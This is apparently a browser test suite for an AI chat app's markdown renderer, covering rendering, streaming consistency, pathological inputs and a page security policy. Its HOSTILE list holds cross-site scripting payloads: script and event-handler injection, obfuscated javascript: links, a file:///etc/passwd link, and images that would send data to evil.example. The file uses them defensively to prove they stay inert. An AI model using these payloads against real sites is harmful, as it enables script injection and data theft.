"""The renderer of answers, in the browser: what it understands, and what hostile text cannot make it do."""

import random
from typing import Any

import pytest
from playwright.async_api import Page, expect

from tests.browser.fake_server import FakeServer

pytestmark = [pytest.mark.chromium, pytest.mark.asyncio(loop_scope="module")]

RENDER = """async (text) => {
  const { parse, render } = await import("/web/markdown.js");
  const { fill } = await import("/web/dom.js");
  const box = document.createElement("div");
  fill(box, render(parse(text)));
  for (const code of box.querySelectorAll("figcaption")) code.remove();
  for (const block of box.querySelectorAll("[dir=auto]")) block.removeAttribute("dir");
  for (const link of box.querySelectorAll("a, button")) {
    for (const name of ["title", "target", "rel", "referrerpolicy"]) link.removeAttribute(name);
  }
  return box.innerHTML;
}"""

INSPECT = """async (texts) => {
  const { parse, render } = await import("/web/markdown.js");
  const { fill } = await import("/web/dom.js");
  const seen = new Set();
  for (const text of texts) {
    const box = document.createElement("div");
    fill(box, render(parse(text)));
    for (const node of box.querySelectorAll("*")) {
      for (const { name, value } of node.attributes) {
        seen.add(`${node.localName} ${name}${name === "href" ? " " + new URL(value).protocol : ""}`);
      }
      seen.add(node.localName);
    }
  }
  return [...seen];
}"""

STREAM = """async (cases) => {
  const { MarkdownStream, parse, render } = await import("/web/markdown.js");
  const { fill } = await import("/web/dom.js");
  const different = [];
  for (const { text, cuts } of cases) {
    const whole = document.createElement("div");
    fill(whole, render(parse(text)));
    const grown = document.createElement("div");
    const stream = new MarkdownStream(grown);
    for (const cut of cuts) stream.update(text.slice(0, cut));
    stream.update(text);
    if (whole.innerHTML !== grown.innerHTML) different.push({ text, whole: whole.innerHTML, grown: grown.innerHTML });
  }
  return different;
}"""

HUGE = """async (texts) => {
  const { MarkdownStream, parse, render } = await import("/web/markdown.js");
  const { fill } = await import("/web/dom.js");
  const sizes = [];
  for (const text of texts) {
    const box = document.createElement("div");
    fill(box, render(parse(text)));
    new MarkdownStream(document.createElement("div")).update(text);
    sizes.push(box.textContent.length);
  }
  return sizes;
}"""

UNDERSTOOD = {
    "a *b* **c** ***d*** ~~e~~ `f`": (
        "<p>a <em>b</em> <strong>c</strong> <em><strong>d</strong></em> <del>e</del> <code>f</code></p>"
    ),
    "snake_case_name 2*3*4 and __init__.py": "<p>snake_case_name 2<em>3</em>4 and <strong>init</strong>.py</p>",
    "a * b * c ** d": "<p>a * b * c ** d</p>",
    "**bold _and italic_ inside**": "<p><strong>bold <em>and italic</em> inside</strong></p>",
    "*a **b* c**": "<p><em>a <em><em>b</em> c</em></em></p>",
    "``a ` b``": "<p><code>a ` b</code></p>",
    "`a\nb": "<p>`a\nb</p>",
    "`**no**`": "<p><code>**no**</code></p>",
    r"\*no\* \\ \a": "<p>*no* \\ \\a</p>",
    "one\ntwo  \nthree\\\nfour": "<p>one\ntwo<br>three<br>four</p>",
    "# A #\n## B\n####### C": "<h3>A</h3><h4>B</h4><p>####### C</p>",
    "Title\n===\nOther\n---\n#hashtag": "<h3>Title</h3><h4>Other</h4><p>#hashtag</p>",
    "***\n- - -\n---": "<hr><hr><hr>",
    "- a\n- b\n  - c\n\n    more\n- d": (
        "<ul><li>a</li><li>b<ul><li><p>c</p><p>more</p></li></ul></li><li>d</li></ul>"
    ),
    "1. a\n2. b": "<ol><li>a</li><li>b</li></ol>",
    "3) a\n4) b": '<ol start="3"><li>a</li><li>b</li></ol>',
    "1. a\n   - b\n2. c": "<ol><li>a<ul><li>b</li></ul></li><li>c</li></ol>",
    "1. a\n  - b\n2. c": '<ol><li>a</li></ol><ul><li>b</li></ul><ol start="2"><li>c</li></ol>',
    "- a\n\n- b": "<ul><li><p>a</p></li><li><p>b</p></li></ul>",
    "text\n- a": "<p>text</p><ul><li>a</li></ul>",
    "in\n1986. it": "<p>in\n1986. it</p>",
    "- [x] done\n- [ ] open": (
        '<ul><li class="task"><input type="checkbox" disabled="" checked="" aria-label="Done"> done</li>'
        '<li class="task"><input type="checkbox" disabled="" aria-label="To do"> open</li></ul>'
    ),
    "```js\na < b\n\n  c\n```\nafter": (
        '<figure class="code"><pre tabindex="0"><code>a &lt; b\n\n  c</code></pre></figure><p>after</p>'
    ),
    "~~~\n```\n~~~": '<figure class="code"><pre tabindex="0"><code>```</code></pre></figure>',
    "```\nnever closed": '<figure class="code"><pre tabindex="0"><code>never closed</code></pre></figure>',
    "- a\n  ```\n  x\n  ```": (
        '<ul><li>a<figure class="code"><pre tabindex="0"><code>x</code></pre></figure></li></ul>'
    ),
    "    indented": '<figure class="code"><pre tabindex="0"><code>indented</code></pre></figure>',
    "> a\n> > b\n\nc": "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote><p>c</p>",
    "See:\n| a | b |\n|:-:|--:|\n| 1 | x \\| y |\n| 2 |\n\nafter": (
        '<p>See:</p><div class="table" tabindex="0" role="group" aria-label="Table"><table><thead><tr>'
        '<th class="align-center" scope="col">a</th><th class="align-right" scope="col">b</th></tr></thead><tbody>'
        '<tr><td class="align-center">1</td><td class="align-right">x | y</td></tr>'
        '<tr><td class="align-center">2</td><td class="align-right"></td></tr></tbody></table></div><p>after</p>'
    ),
    "a | b\nno table": "<p>a | b\nno table</p>",
    '[a *b*](https://x.example/p_(q) "t")': '<p><a href="https://x.example/p_(q)">a <em>b</em></a></p>',
    "[a](<https://x.example/b c>)": '<p><a href="https://x.example/b%20c">a</a></p>',
    "<https://x.example/> (https://x.example/a). https://x.example/b**": (
        '<p><a href="https://x.example/">https://x.example/</a> '
        '(<a href="https://x.example/a">https://x.example/a</a>). '
        '<a href="https://x.example/b">https://x.example/b</a>**</p>'
    ),
    "[a [b](https://x.example/) c](https://y.example/)": (
        '<p>[a <a href="https://x.example/">b</a> c](<a href="https://y.example/">https://y.example/</a>)</p>'
    ),
    "![alt *x*](https://x.example/i.png)": '<p><a href="https://x.example/i.png">Image: alt x</a></p>',
    # Footnotes: a marker without a text stays what it is, and so does a text within another.
    "a[^n] [^0-9]\n\n[^n]: b *c*\n    d\n\n    - e\n\nf": (
        '<p>a<span class="note-marker" data-marker="n"><sup><button type="button" aria-label="Footnote n">n</button>'
        '</sup></span> <span class="note-marker" data-marker="0-9">[^0-9]</span></p>'
        '<div class="footnote" role="note" tabindex="-1" aria-label="Footnote n" data-note="n">'
        '<span class="note-label">n</span><div class="note-text"><p>b <em>c</em>\nd</p><ul><li>e</li></ul></div>'
        '<button type="button" class="quiet small" aria-label="Back to the text">↩</button></div><p>f</p>'
    ),
    # Maths, drawn later; prices, variables and escaped brackets are none.
    "$x$ $5 and $10, $HOME/$USER, US$5-$6 a$b$ \\$x$ `$y$` \\[1\\] $5/month or US$": (
        '<p><span class="maths">$x$</span> $5 and $10, $HOME/$USER, US$5-$6 a$b$ $x$ <code>$y$</code> [1] '
        "$5/month or US$</p>"
    ),
    "\\(a_1*b*\\) \\[x^2\\] $$c$$ d": (
        '<p><span class="maths">\\(a_1*b*\\)</span> <span class="maths maths-display" tabindex="0">\\[x^2\\]</span> '
        '<span class="maths maths-display" tabindex="0">$$c$$</span> d</p>'
    ),
    "a\n$$\nx\n- y\n$$\nb": (
        '<p>a</p><p class="formula"><span class="maths maths-display" tabindex="0">$$x\n- y$$</span></p><p>b</p>'
    ),
    "$$\nx\n# y\n\nb": '<p class="plain">$$\nx\n# y</p><p>b</p>',
    "a [1] and [2][3] b": "<p>a [1] and [2][3] b</p>",
    "&lt;b&gt; &amp;amp; &copy; &#65; &#x42; &#0;": "<p>&lt;b&gt; &amp;amp; © A B \ufffd</p>",
}

HOSTILE = [
    "<script>document.title='taken'</script>",
    "<img src=x onerror=\"document.title='taken'\">",
    '<a href="javascript:document.title=1">x</a><iframe src="https://evil.example/"></iframe>',
    "<svg/onload=alert(1)> <style>*{display:none}</style> <base href=//evil.example> <meta http-equiv=refresh>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1)) [x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1)) [x](javascript&#58;alert(1)) [x](javascript\\:alert(1))",
    "[x](\u0001javascript:alert(1)) [x]( javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](file:///etc/passwd) [x](blob:x)",
    "[x](https://bank.example@evil.example/) <javascript:alert(1)>",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "![x](https://evil.example/?q=secret) ![](//evil.example/i.png) ![a](data:image/svg+xml,<svg onload=alert(1)>)",
    '[x](https://x.example/ "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://x.example/"onclick="alert(1))',
    "```<script>\n</code></pre><script>document.title='taken'</script>\n```",
    '``` "><img src=x onerror=alert(1)>\nx\n```',
    "| <b>a</b> | ![x](https://evil.example/) |\n|---|---|\n| <script>1</script> | [x](javascript:1) |",
    "# <h1 onclick=alert(1)>\n> <b>\n- <i>\n1. <u>",
    "https://evil.example/<script>alert(1)</script> &lt;script&gt;alert(1)&lt;/script&gt;",
    "![x](/agentic/v1/agents?by-image)",
    "[x]: javascript:alert(1)\n[x] [x][x]",
    "\u202e[txt.exe](https://x.example/) \x00\x01\ufeff\ud83d\ude00",
    "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/x.png}$ $\\class{x}{y}$ $$<img src=x>$$",
    "$\\html@mathml{<b>}{x}$ \\(\\style{background:url(//evil.example)}{x}\\) $\\color{url(//evil.example)}x$",
    "[^<b>x</b>] [^x]\n\n[^x]: <img src=x onerror=alert(1)> [^x]\n[^<b>x</b>]: [y](javascript:alert(1))",
    "__proto__ [__proto__](constructor) &constructor; &hasOwnProperty;",
]

ALLOWED = {
    *("p", "h3", "h4", "h5", "h6", "hr", "blockquote", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td"),
    *("div", "figure", "figcaption", "pre", "code", "em", "strong", "del", "br", "span", "input", "a"),
    *("p dir", "h3 dir", "h4 dir", "h5 dir", "h6 dir", "ul dir", "ol dir", "th dir", "td dir", "p class"),
    *("div data-note", "span data-marker", "span tabindex", "sup"),
    *("button", "button type", "button class", "button aria-label", "button title"),
    *("svg", "svg viewBox", "svg class", "svg aria-hidden", "path", "path d"),
    *("figure class", "pre tabindex", "span class", "span title", "ol start", "li class"),
    *("div class", "div tabindex", "div role", "div aria-label", "th class", "th scope", "td class"),
    *("input type", "input disabled", "input checked", "input aria-label"),
    *("a href http:", "a href https:", "a title", "a target", "a rel", "a referrerpolicy"),
}

PIECES = [*HOSTILE, *UNDERSTOOD, "\n", "\n\n", " ", "    ", "\t", "- ", "1. ", "> ", "# ", "```", "|", "|---|", "==="]
PIECES += [
    "*",
    "**",
    "_",
    "~~",
    "`",
    "[",
    "](",
    ")",
    "![",
    "<",
    ">",
    "\\",
    "&",
    "&#",
    "https://a.b/",
    "word",
    "é",
    "\r\n",
]

N = 60_000
HUGE_TEXTS = [
    "*" * N,
    "*a " * N,
    "**a _b " * N,
    "*a* " * N,
    "*a " * (N // 2) + "a* " * (N // 2),
    "_a__b" * N,
    "~~a " * N,
    "`" * N,
    "".join("`" * (n % 300 + 1) + " " for n in range(N // 100)),
    "``a`" * N,
    "[" * N,
    "[a](" * N,
    "![" * (N // 2) + "](a)" * (N // 2),
    "![[a](b)" * N,
    "[a](<" * N,
    '[a](b "' * N,
    "[a](b\\" * N,
    "(" * N + "https://a.b/" + "(" * N,
    "https://a.b/" * N,
    "<https://" * N,
    "&#1" * N,
    "> " * N,
    "- " * N + "a",
    "- a\n" * (N // 4),
    "".join("  " * (n % 200) + "- a\n" for n in range(2000)),
    "".join(">" * (n % 200) + " a\n" for n in range(2000)),
    "1. " * N,
    "# " * N,
    "|" * N + "\n|-|-|\n",
    "|a" * 60 + "|\n" + "|-" * 60 + "|\n" + "b\n" * 5_000,
    "| a |\n|" + "-" * N + "\n",
    ("|" + "-|" * 70 + "\n") * 500,
    "```" + " " * N + "`",
    "=" * N + "\n" + "=" * N,
    "a\n" + "-" * N + "b",
    " " * N + "a",
    "\n" * N,
    "\\" * N,
    "<b>" * N,
    "h" * N,
    "a\n" * N,
    "$a " * N,
    "$$a " * N,
    "$a$b" * N,
    "\\(" * N,
    "\\[^" * N,
    "$$\n" * N,
    "$$\n\n" * N,
    "$\\" * N,
    "[^a]" * N,
    "[^a]: " * N,
    "[^a]: b\n" * (N // 8),
    "[^a]\n\n" * (N // 8) + "[^a]: b",
    "http:" * N,
    "https://" * N,
    "a:" * N,
    "`a " * N,
    "- a\n\n" * (N // 8),
    "> a\n" * (N // 4) + "b\n" * (N // 4),
]


async def open_page(page: Page, fake: FakeServer) -> None:
    await page.goto(fake.url)
    await fake.peer()


async def test_markdown_becomes_the_nodes_that_it_means(page, fake):
    await open_page(page, fake)
    got = {text: await page.evaluate(RENDER, text) for text in UNDERSTOOD}
    assert got == UNDERSTOOD


async def test_no_text_makes_a_node_or_an_address_that_is_not_on_the_list(page, fake):
    await open_page(page, fake)
    dice = random.Random(7)  # noqa: S311 - a repeatable choice of test texts
    mixed = ["".join(dice.choices(PIECES, k=dice.randint(1, 12))) for _ in range(1500)]
    seen = set(await page.evaluate(INSPECT, HOSTILE + mixed))
    assert seen <= ALLOWED
    assert {"a href https:", "li", "td", "em", "code"} <= seen


async def test_hostile_answers_load_nothing_run_nothing_and_stay_text(page, fake):
    await page.goto(fake.url)
    peer = await fake.peer()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url) if "localhost:1/" in request.url else None)
    text = "\n\n".join(HOSTILE)
    await page.get_by_label("Your message").fill(text)
    await page.keyboard.press("Enter")
    told = await fake.told(peer)
    await told.begin()
    for start in range(0, len(text), 40):
        await told.delta(text[start : start + 40])
    await told.finish(text)
    answer = page.locator(".markdown")
    await expect(page.locator(".turn-meta")).to_be_visible()
    await expect(answer).to_contain_text("&hasOwnProperty;")  # the last words may be drawn later
    await expect(answer).to_contain_text("document.title='taken'")
    assert await page.title() != "taken"
    assert [url for url in requests if not url.startswith((fake.url + "agentic/v1/", fake.url + "web/"))] == []
    assert [url for url in requests if "by-image" in url] == []
    assert await page.locator("#turns img, #turns iframe, #turns script, #turns style").count() == 0
    links: list[dict[str, Any]] = await answer.locator("a").evaluate_all(
        "links => links.map(({protocol, target, rel, username}) => ({protocol, target, rel, username}))"
    )
    wanted = {"target": "_blank", "rel": "noopener noreferrer nofollow", "username": ""}
    assert links
    assert all(link == {**wanted, "protocol": link["protocol"]} for link in links)
    assert {link["protocol"] for link in links} <= {"http:", "https:"}


async def test_text_that_grows_gives_the_same_nodes_as_the_whole_of_it(page, fake):
    await open_page(page, fake)
    dice = random.Random(11)  # noqa: S311 - a repeatable choice of test texts
    cases = []
    for _ in range(600):
        text = "".join(dice.choices(PIECES, k=dice.randint(2, 25)))
        cuts = sorted(dice.sample(range(len(text)), min(len(text), dice.randint(1, 30))))
        cases.append({"text": text, "cuts": cuts})
    assert await page.evaluate(STREAM, cases) == []


async def test_huge_and_malicious_texts_are_rendered_in_full(page, fake):
    """What is not linear would take minutes here and run into the test's time limit."""
    await open_page(page, fake)
    sizes = [(await page.evaluate(HUGE, [text]))[0] for text in HUGE_TEXTS]
    empty = [text[:20] for text, size in zip(HUGE_TEXTS, sizes, strict=True) if size == 0 and text.strip()]
    assert [text for text in empty if text[0] not in "-*|#>"] == []


async def test_the_policy_of_the_page_stops_what_the_renderer_would_have_missed(context, fake):
    page = await context.new_page()
    await page.goto(fake.url)
    refused = await page.evaluate("""() => {
      try { document.body.innerHTML = "<p>x</p>"; return "set"; } catch (error) { return error.name; }
    }""")
    assert refused == "TypeError"
    requests: list[str] = []
    page.on("requestfinished", lambda request: requests.append(request.url) if "localhost:1/" in request.url else None)
    loaded = await page.evaluate("""() => new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve("loaded");
      image.onerror = () => resolve("stopped");
      image.src = "http://localhost:1/x.png";
    })""")
    assert (loaded, requests) == ("stopped", [])


async def test_code_is_copied_as_it_was_written(page, fake, context):
    await context.grant_permissions(["clipboard-read", "clipboard-write"])
    await page.goto(fake.url)
    peer = await fake.peer()
    await page.get_by_label("Your message").fill("code")
    await page.keyboard.press("Enter")
    told = await fake.told(peer)
    await told.begin()
    await told.finish("```py\nif a < b:\n\tpass\n```")
    await page.get_by_role("button", name="Copy code").click()
    await expect(page.get_by_role("button", name="Copy code")).to_have_text("Copied")
    assert await page.evaluate("navigator.clipboard.readText()") == "if a < b:\n\tpass"
    await page.get_by_role("button", name="Copy answer").click()
    assert await page.evaluate("navigator.clipboard.readText()") == "```py\nif a < b:\n\tpass\n```"
